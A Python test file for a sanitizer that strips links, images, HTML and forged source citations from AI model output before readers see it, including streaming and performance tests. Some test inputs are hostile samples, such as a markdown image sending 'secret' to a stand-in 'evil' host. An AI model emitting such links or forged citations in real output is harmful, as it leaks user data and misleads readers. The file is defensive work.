"""Tests for converting model output to the text shown to readers."""

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from shared.evidence.reader_text import ReaderText

pytestmark = pytest.mark.attack("forged names")

_LINKS = (
    "[x](https://e)",
    "![x](u)",
    "[](u)",
    "[u]: https://e",
    "<http://e>",
    "://",
    "http",
    "www",
    ":",
    "/",
    ".",
)
_BRACKETS = ("[", "]", "(", ")", "!", "<", "<img src=u>", "<br>", "&", "&#91;", "&amp;", "amp;", "#91;", "\\")
_PROOFS = ("[1]", "(Source: m.pdf)[1]", "(Sou", "rce", "1")
_BLOCKS = ("\n", "\n\n", "\r", "- ", "> ", "    ", "   ", "| ", "`", "``", "```", "~~~")
_WORDS = (" ", "x", "u", "*", '"')
PARTS = st.sampled_from(_LINKS + _BRACKETS + _PROOFS + _BLOCKS + _WORDS)
NOTE = "(Source: m.pdf, S. 3)[1]"


def to_reader_text(text: str, cuts: list[int] | None = None) -> str:
    reader, parts, position = ReaderText(), [], 0
    for cut in [*sorted(min(cut, len(text)) for cut in cuts or []), len(text)]:
        parts.append(reader.feed(text[position:cut]))
        position = max(position, cut)
    return "".join([*parts, reader.finish()])


@pytest.mark.parametrize(
    ("text", "read"),
    [
        ("A ![x](https://evil/?q=secret) b", "A x b"),
        ('See [the page](https://evil/a_(b) "t"), now', "See the page, now"),
        ("[a](see page 3)", "[a] (see page 3)"),
        ("15 bar (Source: m.pdf, S. 4)[1].", "15 bar (Source unchecked: m.pdf, S. 4)(1)."),
        ("15 bar [ 2 ], [2023] and [a]", "15 bar (2), [2023] and [a]"),
        ("[a][b] and [b]: https://evil", "[a] [b] and [b] : https: //evil"),
        ("at https://a.example/b or www.a.example", "at https: //a.example/b or www .a.example"),
        ("<img src=x> a < b, a <b, <br>", "&lt;img src=x> a < b, a &lt;b, <br>"),
        ("`a[1](x)` and `b", "`a[1](x)` and `b"),
        ("```\na[1](x)\n```\na[1](x)", "```\na[1](x)\n```\na(1)"),
        ("[![x](u)](https://evil)", "[x] (https: //evil)"),
        ("[[1](x)] and [1[2]]", "[(1)] and [1(2)]"),
        ("(Sou[](x)rce: m.pdf)", "(Source unchecked: m.pdf)"),
        ("[x", "[x"),
        ("[x](\n\n) y", "[x] (\n\n) y"),
        ("[a](<u v>) b", "a b"),
        ("[a](b(c)d) e", "a e"),
        ("[a](b(c d) e", "[a] (b(c d) e"),
        ("[a:](u) b", "a: b"),
        ("![x", "! [x"),
        ("[a][1]", "[a] (1)"),
        ("Stop!", "Stop!"),
        ("see [1\\]", "see [1\\)"),
        ("&#91;x&#93;(u) &lbrack; & &amp;", "&amp;#91;x&amp;#93;(u) &amp;lbrack; & &amp;"),
        ("GmbH &amp; Co. KG, A &amp;amp; B", "GmbH & Co. KG, A & B"),
        ("R&amp;D, Q&amp;A-Runde (S&amp;P) M&amp;A.", "R&D, Q&A-Runde (S&P) M&A."),
        ("a &amp;\nb `x &amp; y`", "a &\nb `x &amp; y`"),
        (
            "&amp;lt; &amp;l[t;](u) &amp;[#91;](u) &amp;#91; &amp;a;",
            "&amp;lt; &amp;lt; &amp;#91; &amp;#91; &amp;a;",
        ),
        ("&amp;amp;amp; &amp &amp", "&amp;amp;amp; &amp &amp"),
        ("| a | b |\n|---|---|\n| 1 | 2 |", "| a | b |\n|---|---|\n| 1 | 2 |"),
        ("**x** *y* _z_ ~~w~~ 10:30 a/b C:/x", "**x** *y* _z_ ~~w~~ 10:30 a/b C:/x"),
    ],
)
def test_signs_that_load_link_or_forge_are_taken_out(text: str, read: str) -> None:
    assert to_reader_text(text) == read
    assert to_reader_text(text, list(range(len(text)))) == read


@pytest.mark.parametrize(
    ("text", "read"),
    [
        ("a ` b\n`[x](u)`", "a ` b\n`x`"),
        ("a ` b\n\n`[x](u)`", "a ` b\n\n`[x](u)`"),
        ("`a|[x](u)`", "`a|x`"),
        ("```\n[x](u)\n````\n[x](u)\n", "```\n[x](u)\n````\nx\n"),
        ("``` python [x](u)\n[x](u)\n```", "```python\n[x](u)\n```"),
        ("~~~ python [x](u)\n[x](u)\n~~~\n[x](u)", "~~~python\n[x](u)\n~~~\nx"),
        ("````[x](u)```", "\\````x```"),
        ("```\ncode\n```\n`[x](u)`", "```\ncode\n```\n`[x](u)`"),
        ("```a`b\n`[x](u)`", "\\```a`b\n`x`"),
        ("`" * 17 + "\nx", "\\" + "`" * 17 + "\nx"),
        ("- ```\n```\n`[x](u)`", "- ```\n```\n`x`"),
        ("- ```\n  [x](u)\n  ```\n```\n[x](u)\n```", "- ```\n  x\n  ```\n```\n[x](u)\n```"),
        ("- ```\n  code\nb\n  ```\n```\n[x](u)\n```", "- ```\n  code\nb\n  ```\n```\nx\n```"),
        ("\t- ```\n   ```\n```\n[x](u)\n```", "\t- ```\n   ```\n```\nx\n```"),
        ("  ```\n   ```\n  ```\na\n```\n[x](u)\n", "  ```\n   ```\n  ```\na\n```\nx\n"),
        ("> ```\n  ```\n~~~\n```\n[x](u)\n", "> ```\n  ```\n~~~\n```\nx\n"),
    ],
)
def test_only_code_of_every_reader_keeps_its_signs(text: str, read: str) -> None:
    assert to_reader_text(text) == read
    assert to_reader_text(text, list(range(len(text)))) == read


@pytest.mark.parametrize(
    ("text", "read"),
    [
        ("at 10:30", "at 10:30"),
        ("http://", "http: //"),
        ("a <x", "a &lt;x"),
        ("a < b", "a < b"),
        ("R&D &", "R&D "),
        ("`a` b", "`a` b"),
        ("a ~ b", "a ~ b"),
        ("a `b", "a "),
    ],
)
def test_text_is_shown_as_soon_as_nothing_can_change_it(text: str, read: str) -> None:
    assert ReaderText().feed(text) == read


@pytest.mark.parametrize(
    ("before", "shown_before"),
    [("", ""), ("a", "a "), ("a ", "a "), ("ab ", "ab "), ("a\n", "a\n"), ("!", "! ")],
)
def test_a_note_is_set_off_from_the_text_before_it(before: str, shown_before: str) -> None:
    reader = ReaderText()
    assert reader.feed(before) + reader.note(NOTE) == f"{shown_before}{NOTE}"


def test_an_address_that_begins_in_our_text_is_broken() -> None:
    reader = ReaderText()
    assert reader.own("See https:") + reader.feed("//evil") == "See https:/ /evil"


@given(st.lists(PARTS, max_size=25).map("".join), st.lists(st.integers(0, 150), max_size=20))
def test_cuts_anywhere_change_nothing(text: str, cuts: list[int]) -> None:
    assert to_reader_text(text, cuts) == to_reader_text(text)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("`[x](https://e)`[](u)`", "`[x](https://e)` `"),  # else the code span would not end
        ("``[](u)`\n[x](https://e)\n", "`` `\nx\n"),
        ("[~~](u)~\n[x](https://e)\n~~~\n[y](https://e)\n", "~~ ~\nx\n~~~\n[y](https://e)\n"),
        ("~~[~](u)\n[x](https://e)\n~~~\n[y](https://e)\n", "~~ ~ \nx\n~~~\n[y](https://e)\n"),
        ("&[](u)#91;1]", "& #91;1]"),
        ("&[#91;](u)1]", "& #91;1]"),
        ("[&](u)#91;1]", "& #91;1]"),
        ("a[](u)b", "ab"),
    ],
)
def test_a_removed_target_joins_nothing(text: str, expected: str) -> None:
    assert to_reader_text(text) == expected
    assert live_tokens(expected) == []


@given(st.lists(PARTS, max_size=25).map("".join))
def test_no_reader_of_markdown_sees_a_link_a_picture_or_html(text: str) -> None:
    assert live_tokens(to_reader_text(text)) == []


@given(st.lists(st.tuples(st.lists(PARTS, max_size=8).map("".join), st.booleans()), max_size=5))
def test_nor_with_our_proofs_between(parts: list[tuple[str, bool]]) -> None:
    reader = ReaderText()
    text = "".join(reader.feed(part) + (reader.note(NOTE) if is_note else "") for part, is_note in parts)
    assert live_tokens(text + reader.finish()) == []


@given(st.lists(PARTS.filter(lambda part: "`" not in part and "~" not in part), max_size=25).map("".join))
def test_outside_code_nothing_looks_like_a_proof(text: str) -> None:
    assert not re.search(r"\[\s*\d{1,3}\s*\]|\(\s*Source\s*:", to_reader_text(text))


@given(st.text(alphabet="[](!`~x\n", max_size=40))
def test_what_is_shown_of_the_start_stays(text: str) -> None:
    reader = ReaderText()
    parts = [reader.feed(character) for character in text]
    assert to_reader_text(text).startswith("".join(parts))


def test_no_more_is_held_back_than_a_link_may_be_long() -> None:
    for opening in ("[", "[x](", "`", "```"):
        reader = ReaderText()
        fed = opening + "x" * 2000
        assert len(reader.feed(fed)) >= len(fed) - 500


@pytest.mark.parametrize(
    "text", ["<" * 100_000, "[" * 100_000, "`" * 100_000, "` ``" * 25_000, "[x](" * 5_000]
)
def test_long_rubbish_takes_no_quadratic_time(text: str) -> None:
    started = time.process_time()
    to_reader_text(text)
    assert time.process_time() - started < 10  # a guard against hanging


def live_tokens(text: str) -> list[str]:
    """Return the link, image and HTML tokens (except line breaks) that a CommonMark parser finds."""
    tokens = MarkdownIt("commonmark", {"html": True}).enable("table").parse(text)
    inner = [child for token in tokens for child in token.children or []]
    return [
        f"{token.type} {token.content}"
        for token in [*tokens, *inner]
        if token.type in ("link_open", "image", "html_block")
        or (token.type == "html_inline" and token.content.replace(" ", "") not in ("<br>", "<br/>"))
    ]
